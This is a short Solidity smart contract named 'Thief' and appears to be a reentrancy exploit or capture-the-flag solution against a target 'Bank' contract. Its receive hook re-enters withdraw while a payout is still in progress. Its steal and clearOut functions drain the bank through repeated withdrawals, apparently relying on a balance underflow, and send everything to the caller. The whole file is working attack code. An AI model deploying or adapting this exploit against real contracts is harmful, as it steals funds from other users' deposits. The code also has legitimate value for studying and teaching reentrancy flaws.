// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface Bank {
    function ethdeposit(address to) external payable;
    function withdraw(uint256 amount) external;
}

/// Brings a little, asks for it, and asks again while it is being paid.
contract Thief {
    Bank private immutable bank;
    uint256 private sip;

    constructor(address target) {
        bank = Bank(target);
    }

    receive() external payable {
        if (sip > 0) bank.withdraw(sip);
    }

    /// Deposits what comes with the call and takes it out in sips of this size. Loot goes home.
    function steal(uint256 amount) external payable {
        bank.ethdeposit{value: msg.value}(address(this));
        sip = amount;
        bank.withdraw(amount);
        sip = 0;
        goHome();
    }

    /// After a theft the balance is below zero, and zero is not where it ends: there is plenty left to ask for.
    function clearOut(uint256 amount) external {
        while (address(bank).balance >= amount) bank.withdraw(amount);
        goHome();
    }

    function goHome() private {
        (bool isHome, ) = msg.sender.call{value: address(this).balance}("");
        require(isHome);
    }
}
